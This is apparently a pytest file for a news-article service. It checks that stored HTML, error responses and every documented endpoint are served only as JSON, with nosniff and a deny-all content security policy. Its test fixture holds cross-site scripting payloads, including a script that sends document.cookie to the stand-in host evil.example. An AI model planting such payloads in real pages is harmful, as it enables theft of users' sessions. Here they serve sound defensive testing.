"""Stored text is only ever served as JSON that browsers will not sniff or render: script-laden
HTML comes back as a JSON string with nosniff and a CSP that allows nothing."""

from __future__ import annotations

import pytest

from tests.support.stack import Stack

SCRIPTED = (
    "<html><body><script>document.location='https://evil.example/?'+document.cookie</script>"
    "<p>Lisbon council met on Monday.</p><img src=x onerror=alert(1)></body></html>"
)


def _assert_inert_json(response) -> None:  # type: ignore[no-untyped-def]
    assert response.headers["content-type"] == "application/json"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in response.headers["content-security-policy"]
    response.json()  # it is JSON, whatever it holds


def test_stored_html_comes_back_as_json_only(stack: Stack) -> None:
    accepted = stack.post({"html": SCRIPTED, "title": "<script>alert(2)</script>"})
    for path in (f"/v1/articles/{accepted['id']}", "/v1/articles", "/v1/feed", "/v1/entities"):
        response = stack.api.get(path, headers={"Accept": "text/html"})
        assert response.status_code == 200
        _assert_inert_json(response)
    record = stack.api.get(f"/v1/articles/{accepted['id']}", params={"include": "raw"}).json()
    assert record["raw"] == SCRIPTED  # kept exactly, served as data


@pytest.mark.parametrize(
    ("service", "method", "path"),
    [
        ("api", "GET", "/v1/articles/424242"),
        ("api", "GET", "/v1/feed?after=x"),
        ("ingest", "POST", "/v1/articles"),
        ("ingest", "GET", "/healthz"),
    ],
)
def test_errors_and_probes_are_inert_json(
    stack: Stack, service: str, method: str, path: str
) -> None:
    client = stack.api if service == "api" else stack.ingest
    response = client.request(method, path, headers={"content-type": "application/json"})
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-type"] == "application/json"


def test_every_documented_answer_is_json(stack: Stack) -> None:
    for client in (stack.ingest, stack.api):
        for path, operations in client.get("/openapi.json").json()["paths"].items():
            for operation in operations.values():
                for status, answer in operation["responses"].items():
                    kinds = set(answer.get("content", {"application/json": {}}))
                    # The one exception: the stream's events (each one's data is JSON).
                    expected = (
                        {"text/event-stream"}
                        if (path, status) == ("/v1/stream", "200")
                        else {"application/json"}
                    )
                    assert kinds == expected, (path, status, kinds)
